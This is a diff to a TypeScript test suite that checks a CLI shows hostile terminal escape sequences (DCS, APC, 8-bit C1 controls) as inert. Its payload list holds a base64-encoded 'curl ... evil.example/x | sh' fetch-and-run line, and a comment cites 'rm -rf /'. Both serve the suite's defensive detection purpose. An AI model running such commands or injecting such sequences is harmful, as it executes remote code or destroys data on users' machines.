@@ -43,11 +43,15 @@ const PAYLOADS = [
 	'C1-TITLE',
 	'evil.example/phish',
 	Buffer.from('curl -s https://evil.example/x | sh\n').toString('base64'),
+	'+q544e',
+	'+q636f6c73',
+	'Gf=100',
+	'iVBORw0KGgo',
 ];
 
 /** The data's own escape sequences next to the text that follows them in the data. */
 const dataSequences = Object.values(hostile).flatMap(value =>
-	[...value.matchAll(/(\u001B\[[0-9;?]*[A-Za-z])+([A-Z]{3,})/g)].map(match => match[0]),
+	[...value.matchAll(/((?:\u001B\[|\u009B)[0-9;?]*[A-Za-z])+([A-Z]{3,})/g)].map(match => match[0]),
 );
 
 function assertInert(term: Term, where: string): void {
@@ -70,6 +74,26 @@ function assertInert(term: Term, where: string): void {
 		);
 	}
 }
+
+test('the scan can fail: every hostile string, written raw, is caught by it', () => {
+	for (const [name, value] of Object.entries(hostile)) {
+		// A bare CR is also how every line the CLI draws ends: the screen check ("OVERWRITTEN safe text"
+		// next to "rm -rf /") is what proves that one inert.
+		if (name === 'carriageReturn') continue;
+		const caught =
+			FORBIDDEN.some(([, pattern]) => pattern.test(value)) ||
+			PAYLOADS.some(payload => value.includes(payload)) ||
+			dataSequences.some(sequence => value.includes(sequence));
+		assert.ok(caught, `${name}: the escape scan would not notice it raw`);
+	}
+	// The string sequences each have their own rule, not only the ESC or C1 they start with.
+	const named = (value: string) =>
+		FORBIDDEN.filter(([, pattern]) => pattern.test(value)).map(([rule]) => rule);
+	assert.ok(named(hostile.dcs).includes('DCS/APC/PM/SOS'));
+	assert.ok(named(hostile.apc).includes('DCS/APC/PM/SOS'));
+	assert.ok(named(hostile.dcs8bit).includes('C1 control (8-bit OSC/CSI/DCS/ST)'));
+	assert.ok(named(hostile.csi8bit).includes('C1 control (8-bit OSC/CSI/DCS/ST)'));
+});
 
 async function open(options: Parameters<typeof startSession>[0]): Promise<Session> {
 	const session = await startSession(options);
@@ -140,6 +164,10 @@ describe('hostile data end to end', () => {
 				'dingBELL',
 				'secretBACKSPACE',
 				'RED colour',
+				'DCS-QUERY text',
+				'DCS8-QUERY text',
+				'APC-IMAGE text',
+				'CSI8-CLEARED text',
 				'TITLE0 set',
 				'evil_tool',
 			])
@@ -152,6 +180,10 @@ describe('hostile data end to end', () => {
 			'OVERWRITTEN safe text',
 			'HYPERLINK label',
 			'RED colour',
+			'DCS-QUERY text',
+			'DCS8-QUERY text',
+			'APC-IMAGE text',
+			'CSI8-CLEARED text',
 			'evil_tool',
 		])
 			assert.ok(seen.has(marker), `"${marker}" was shown (saw: ${[...seen].join(', ')})`);
